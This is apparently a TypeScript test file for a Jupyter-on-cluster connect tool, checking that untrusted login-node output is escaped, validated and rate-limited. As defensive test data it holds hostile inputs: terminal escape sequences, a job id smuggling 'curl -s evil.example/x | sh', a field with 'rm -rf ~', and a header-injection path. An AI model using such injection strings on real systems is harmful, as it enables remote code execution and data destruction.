/**
 * The pure rules behind `connect` under faults, without a cluster: what the laptop accepts
 * from a login node (printable text, ids, base paths, exit codes, floods), what the scheduler's
 * word means for a session (ended, requeued, winding down), the one line that says why a job
 * ended, a server's entry found by job id and the file system's clock, heartbeats on that
 * clock, and job names with C1 controls refused. The cluster tests
 * (tests/connect_faults_test.ts, tests/connect_untrusted_test.ts, tests/clock_skew_test.ts)
 * run the same rules for real.
 */

import assert from "node:assert/strict";
import { join } from "node:path";
import { tempDir } from "./helpers.ts";
import { printable } from "../src/util/printable.ts";
import { fsNow, touchByWrite } from "../src/util/fs_clock.ts";
import {
  checkJobLines,
  checkReady,
  checkStatus,
  remoteBasePath,
  remoteExitCode,
  remoteJobId,
  RemoteProtocolError,
  remoteText,
  TextBudget,
} from "../src/connect/untrusted.ts";
import { judgeJob } from "../src/connect/verdict.ts";
import { describeEnd, parseJupyterExit } from "../src/scheduler/ending.ts";
import { latestServerOfJob, serverOfJob } from "../src/scheduler/jobs_state.ts";
import { renderBatchScript } from "../src/scheduler/script.ts";
import { UsageError } from "../src/util/errors.ts";
import { dialProblem } from "../src/connect/dial.ts";
import type { JobStatus } from "../src/scheduler/types.ts";

const HOSTILE = "\x1b[2J\x1b]52;c;ZXZpbA==\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\" +
  "\x1b]0;title\x07\x1b[31mred\x9b2J\x9d0;t\x9c\u202egnp.exe";

Deno.test("remote text shows every control character escaped, C1 and bidi ones included, and is capped", () => {
  const shown = remoteText(HOSTILE);
  // deno-lint-ignore no-control-regex
  assert.doesNotMatch(shown, /[\x00-\x1f\x7f-\x9f\u202e]/);
  assert.match(shown, /\\x1b\[2J/);
  assert.match(shown, /\\x9b2J/);
  assert.match(shown, /\\u202egnp\.exe/);
  assert.equal(remoteText("a\nb", 10, true), "a\nb");
  assert.equal(remoteText("a\nb", 10), "a\\x0ab");
  const big = remoteText("x".repeat(1_000_000));
  assert.ok(big.length < 2100, `${big.length}`);
  assert.match(big, /… \(1000000 characters\)$/);
  assert.equal(printable("name\x85", 20), "name\\x85");
});

Deno.test("a base path must be a path on this machine: // and control characters are refused, the rest encoded", () => {
  for (
    const bad of ["//evil.example/", "http://evil.example/", "evil/", "/x\r\nSet-Cookie: evil=1", 7]
  ) {
    assert.throws(() => remoteBasePath(bad), RemoteProtocolError, JSON.stringify(bad));
  }
  assert.equal(remoteBasePath("/"), "/");
  assert.equal(remoteBasePath("/user/me"), "/user/me/");
  assert.equal(remoteBasePath("/a b/\\evil.example/"), "/a%20b/%5Cevil.example/");
  assert.equal(remoteBasePath("/%2F%2Fevil/"), "/%2F%2Fevil/");
});

Deno.test("ids must have a scheduler's or a server's form; exit codes outside 1-255 become 1", () => {
  assert.equal(remoteJobId("42"), "42");
  assert.equal(remoteJobId("1234.pbs01"), "1234.pbs01");
  assert.throws(() => remoteJobId("7; curl -s evil.example/x | sh"), RemoteProtocolError);
  assert.throws(() => remoteJobId(7), RemoteProtocolError);
  for (const [x, code] of [[0, 1], ["abc", 1], [2, 2], [255, 255], [256, 1], [-3, 1], [1.5, 1]]) {
    assert.equal(remoteExitCode(x), code, JSON.stringify(x));
  }
});

Deno.test("a ready message is checked field by field; texts are filtered", () => {
  const good = {
    type: "ready",
    job: "12",
    server: "ab12cd34",
    app: "lab",
    version: "4.0\x1b[2J",
    node: "node1",
    port: 8888,
    token: "0123abcd",
    basePath: "/",
    notebookDir: "/home/me\x9b",
    route: "srun",
    login: "login1",
  };
  const r = checkReady(good);
  assert.equal(r.version, "4.0\\x1b[2J");
  assert.equal(r.notebookDir, "/home/me\\x9b");
  for (
    const bad of [
      { token: "a b" },
      { port: "8888" },
      { port: 70000 },
      { server: "../x" },
      { job: "1; rm -rf ~" },
      { basePath: "//evil/" },
    ]
  ) {
    assert.throws(() => checkReady({ ...good, ...bad }), RemoteProtocolError, JSON.stringify(bad));
  }
  assert.equal(checkStatus({ id: "3", state: "R\x1bX", phase: "running" }).state, "R\\x1bX");
  assert.equal(
    checkJobLines([{ id: "3", kind: "job", name: "n\x9b2J", state: "RUNNING" }])[0].name,
    "n\\x9b2J",
  );
});

Deno.test("a flood of remote messages is cut to a burst and a trickle, and the rest counted", () => {
  const budget = new TextBudget(5, 1);
  let shown = 0;
  let dropped = 0;
  for (let i = 0; i < 1000; i++) if (budget.take((n) => (dropped += n))) shown++;
  assert.equal(shown, 5);
  assert.equal(budget.dropped, 995);
  assert.equal(dropped, 0, "told only when printing resumes");
});

function status(over: Partial<JobStatus>): JobStatus {
  return { id: "4", state: "RUNNING", phase: "running", ...over };
}

Deno.test("the scheduler's word decides: ended, requeued (pending or a new run), winding down, same run", () => {
  const start = new Date("2026-01-01T10:00:00Z");
  const run = start.getTime();
  assert.equal(judgeJob(undefined, run).kind, "ended");
  assert.equal(judgeJob(status({ state: "TIMEOUT", phase: "ended" }), run).kind, "ended");
  assert.deepEqual(judgeJob(status({ state: "PENDING", phase: "queued" }), run), {
    kind: "requeued",
    ranAgain: false,
  });
  assert.deepEqual(
    judgeJob(status({ startTime: new Date("2026-01-01T10:05:00Z") }), run),
    { kind: "requeued", ranAgain: true },
  );
  assert.equal(judgeJob(status({ state: "COMPLETING", startTime: start }), run).kind, "settling");
  // Being requeued: COMPLETING, its start time already reset. Not a new run yet.
  assert.equal(
    judgeJob(status({ state: "COMPLETING", startTime: new Date("2026-01-01T10:07:00Z") }), run)
      .kind,
    "settling",
  );
  assert.equal(judgeJob(status({ startTime: start }), run).kind, "running");
});

Deno.test("why a job ended is one line with its cause: time limit, cancel, node, Jupyter's own exit and the log", () => {
  const log = "/home/me/.local/state/legate-jupyter/logs/job-6.log";
  assert.equal(
    describeEnd({ id: "3", status: status({ state: "TIMEOUT", phase: "ended", timeLimit: 600 }) }),
    "job 3 reached its time limit of 10 min (TIMEOUT)",
  );
  assert.match(
    describeEnd({
      id: "3",
      status: status({ state: "CANCELLED", phase: "ended", reason: "BeginTime" }),
    }),
    /^job 3 was cancelled outside this session \(scancel, another connect session or an administrator/,
  );
  assert.match(
    describeEnd({ id: "3", node: "node1", status: status({ state: "NODE_FAIL", phase: "ended" }) }),
    /its node node1 failed \(NODE_FAIL\)/,
  );
  const killed = parseJupyterExit(
    "legate-jupyter: job 6 on node1 started\n" +
      "legate-jupyter: warning: Jupyter Notebook exited with status 137; its log: /x.log\n" +
      "legate-jupyter: job 6 ended 2026-01-01 10:00:00 with status 137\n",
  );
  assert.deepEqual(killed, { title: "Jupyter Notebook", status: 137 });
  assert.equal(
    describeEnd({
      id: "6",
      node: "node1",
      logPath: log,
      jupyter: killed,
      status: status({ state: "FAILED", phase: "ended", reason: "NonZeroExitCode" }),
    }),
    "Jupyter Notebook on node1 exited with status 137, killed by SIGKILL (kill -9, or the " +
      `out-of-memory killer), and job 6 ended FAILED (NonZeroExitCode); the job's log: ${log}`,
  );
  assert.equal(parseJupyterExit("nothing of ours\n"), undefined);
});

Deno.test("a job's server entry is found by job id and the file system's clock, not by two hosts' clocks", () => {
  const recordedAt = Date.parse("2026-01-01T10:00:00Z");
  const entry = (jobId: string, beat: string) => ({
    record: { jobId },
    heartbeat: new Date(beat),
  });
  // The node's own startedAt plays no part: an entry refreshed since the record belongs.
  assert.equal(serverOfJob({ id: "5", recordedAt }, entry("5", "2026-01-01T10:00:30Z")), true);
  assert.equal(serverOfJob({ id: "5", recordedAt }, entry("6", "2026-01-01T10:00:30Z")), false);
  // An old job that had the same id: its entry was last refreshed before this job was recorded.
  assert.equal(serverOfJob({ id: "5", recordedAt }, entry("5", "2025-12-31T09:00:00Z")), false);
  assert.equal(serverOfJob({ id: "5" }, entry("5", "2025-12-31T09:00:00Z")), true);
  const first = entry("5", "2026-01-01T10:01:00Z");
  const second = entry("5", "2026-01-01T10:09:00Z");
  assert.equal(latestServerOfJob({ id: "5", recordedAt }, [second, first]), second);
});

Deno.test("a heartbeat takes the file system's time, and the reader's now is the file system's too", async () => {
  await using tmp = await tempDir();
  const file = join(tmp.path, "entry.json");
  await Deno.writeTextFile(file, '{"id":"x"}\n');
  const old = new Date(Date.now() - 3600_000);
  await Deno.utime(file, old, old);
  assert.equal(await touchByWrite(file), true);
  assert.equal(await Deno.readTextFile(file), '{"id":"x"}\n', "the content is unchanged");
  const now = await fsNow(tmp.path);
  assert.ok(now !== undefined);
  const beat = (await Deno.stat(file)).mtime!.getTime();
  assert.ok(Math.abs(now - beat) < 5000, `${now} ${beat}`);
  assert.deepEqual([...Deno.readDirSync(tmp.path)].map((e) => e.name), ["entry.json"]);
  assert.equal(await touchByWrite(join(tmp.path, "gone.json")), false);
  assert.deepEqual([...Deno.readDirSync(tmp.path)].map((e) => e.name), ["entry.json"]);
});

Deno.test("a job name with a C1 control character is refused like any control character", () => {
  assert.throws(
    () => renderBatchScript({ scheduler: "slurm", command: ["true"], jobName: "x\x9b2Jy" }),
    (e: unknown) => e instanceof UsageError && /--job-name/.test(e.message),
  );
});

Deno.test("a dial that met its deadline, or a bad frame after the marker, is said as what it was", () => {
  const base = { login: "login1", version: "1.2.3", stderr: "" };
  const late = dialProblem({
    ...base,
    result: { kind: "timeout", skipped: "", tail: "legate-jupyter-login\nloading \x1b[31mmodules" },
    timeoutS: 30,
  });
  assert.match(
    late.message,
    /login1 logged you in, but legate-jupyter did not answer there within 30 s/,
  );
  assert.match(late.message, /the last it printed: loading \\x1b\[31mmodules/);
  assert.match(late.message, /--remote-timeout/);
  const bad = dialProblem({
    ...base,
    result: { kind: "protocol", problem: "protocol error: unknown frame type 71" },
  });
  assert.match(bad.message, /broke connect's protocol \(protocol error: unknown frame type 71\)/);
  assert.doesNotMatch(bad.message, /did not start/);
});
